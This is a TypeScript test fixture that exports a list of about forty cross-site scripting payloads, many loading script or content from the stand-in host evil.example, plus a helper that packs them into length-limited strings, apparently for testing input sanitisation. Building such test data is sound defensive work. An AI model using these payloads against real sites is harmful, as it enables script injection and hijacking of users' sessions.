/**
 * Where an injected script would report that it ran: nothing answers there, and no test may request
 * it.
 */
export const EVIL = 'https://evil.example';

const call = 'alert(1)';

/**
 * 40 texts that become script where a page takes a text for markup, an attribute, an address, a
 * style or code.
 */
export const payloads = [
  `<script>${call}</script>`,
  `<script src=${EVIL}/1.js></script>`,
  `</script><script>${call}</script>`,
  `<ScRiPt>${call}</sCrIpT>`,
  `<script type=module>import'${EVIL}/2.js'</script>`,
  `<img src=x onerror=${call}>`,
  `<img src=${EVIL}/3.png>`,
  `<img/src/onerror=${call}>`,
  `"><img src=x onerror=${call}>`,
  `'><img src=x onerror=${call}>`,
  `<svg onload=${call}>`,
  `<svg><script>${call}</script></svg>`,
  `<svg><animate onbegin=${call} attributeName=x>`,
  `<svg><use href="data:image/svg+xml,<svg onload=${call}>">`,
  `<math><mtext><script>${call}</script></math>`,
  `<body onload=${call}>`,
  `<iframe src="javascript:${call}"></iframe>`,
  `<iframe srcdoc="<script>parent.${call}</script>">`,
  `<iframe src=${EVIL}/4></iframe>`,
  `<object data="javascript:${call}"></object>`,
  `<embed src=${EVIL}/5>`,
  `<a href="javascript:${call}">x</a>`,
  `javascript:${call}//`,
  `JaVaScRiPt:${call}`,
  `data:text/html,<script>${call}</script>`,
  `<form action=${EVIL}/6><input name=x autofocus onfocus=${call}></form>`,
  `<input autofocus onfocus=${call}>`,
  `<details open ontoggle=${call}>`,
  `<video><source onerror=${call}></video>`,
  `<marquee onstart=${call}>`,
  `<style>@import '${EVIL}/7.css'</style>`,
  `<link rel=stylesheet href=${EVIL}/8.css>`,
  `<div style="background:url(${EVIL}/9)">`,
  `<base href=${EVIL}/>`,
  `<meta http-equiv=refresh content="0;url=${EVIL}/10">`,
  `" onmouseover="${call}" autofocus="`,
  `{{constructor.constructor('${call}')()}}`,
  '${' + call + '}',
  `\\u003cscript\\u003e${call}\\u003c/script\\u003e`,
  `&lt;script&gt;${call}&lt;/script&gt;`,
];

/** All of them in texts of at most `most` characters. */
export function inTexts(most: number): string[] {
  const texts: string[] = [];
  for (const payload of payloads) {
    const last = texts.at(-1);
    if (last !== undefined && last.length + 1 + payload.length <= most)
      texts[texts.length - 1] = `${last} ${payload}`;
    else texts.push(payload);
  }
  return texts;
}
